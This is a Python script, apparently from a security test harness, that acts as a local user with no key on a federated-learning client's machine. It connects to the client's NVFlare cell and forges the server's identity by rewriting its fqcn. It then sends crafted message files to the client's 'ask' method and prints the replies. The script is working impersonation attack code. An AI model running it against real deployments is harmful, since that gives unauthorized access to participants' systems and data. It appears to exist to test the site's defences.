"""Another user of a silo's machine, without any key, who speaks to the silo as the server.

``python attack.py USER SITE JOB MESSAGES ADDRESS...``: becomes the user with this number, connects
to each address as the server's part of the job, and sends the silo each of the messages, which are
files. Prints what came of it as JSON, by address.
"""

import json
import os
import sys
import time
import traceback
from pathlib import Path


def main() -> None:
    user, site, job, messages, *addresses = sys.argv[1:]
    contents = [path.read_bytes() for path in sorted(Path(messages).iterdir())]
    # While the files can be read for sure.
    import encodings.raw_unicode_escape  # noqa: F401

    import nvflare.collab.runtime.defs  # noqa: F401
    from nvflare.fuel.f3.cellnet.cell import Cell  # noqa: F401
    from nvflare.fuel.f3.communicator import driver_mgr, load_comm_drivers

    load_comm_drivers()
    if os.environ.get("DRIVERS"):
        driver_mgr.search_folder(os.environ["DRIVERS"], None)
    os.setgroups([])
    os.setgid(int(user))
    os.setuid(int(user))
    heard = {
        address: spoken(address, f"{site}.intruder{k}", site, job, contents)
        for k, address in enumerate(addresses)
    }
    print(json.dumps(heard), flush=True)


def spoken(address: str, name: str, site: str, job: str, messages: list[bytes]) -> list[str]:
    """Return what the silo answered to each message; a process has one cell of a name."""
    from nvflare.collab.runtime.defs import (
        CALL_PROTOCOL_VERSION,
        MSG_CHANNEL,
        MSG_TOPIC,
        CallHeaderKey,
        ObjectCallKey,
    )
    from nvflare.fuel.f3.cellnet.cell import Cell
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.fuel.f3.cellnet.utils import new_cell_message

    cell = Cell(
        fqcn=name,  # a part of the silo, as far as the way is concerned
        root_url="",
        secure=False,
        credentials={},
        create_internal_listener=False,
        parent_url=address,
    )
    cell.start()
    for _ in range(100):  # to connect
        if cell.core_cell.agents.get(site) is not None:
            break
        time.sleep(0.2)
    else:
        return ["no connection"]
    heard = []
    cell.core_cell.my_info.fqcn = f"server.{job}"  # who asks; the answer goes to the real one
    for message in messages:
        headers = {
            CallHeaderKey.PROTOCOL_VERSION: CALL_PROTOCOL_VERSION,
            CallHeaderKey.TARGET_NAME: f"{site}.client",
            CallHeaderKey.METHOD_NAME: "ask",
        }
        payload = {
            ObjectCallKey.CALLER: "server",
            ObjectCallKey.TARGET_NAME: f"{site}.client",
            ObjectCallKey.METHOD_NAME: "ask",
            ObjectCallKey.ARGS: (),
            ObjectCallKey.KWARGS: {"message": message},
        }
        reply = cell.send_request(
            channel=MSG_CHANNEL,
            target=f"{site}.{job}",
            topic=MSG_TOPIC,
            request=new_cell_message(headers, payload),
            timeout=10.0,
        )
        code = str(reply.get_header(MessageHeaderKey.RETURN_CODE, ""))
        heard.append(f"{code}: {reply.payload!r}"[:300])
    return heard


if __name__ == "__main__":
    try:
        main()
    except BaseException:
        traceback.print_exc()
        os._exit(1)  # threads of cells would keep the process alive
    os._exit(0)
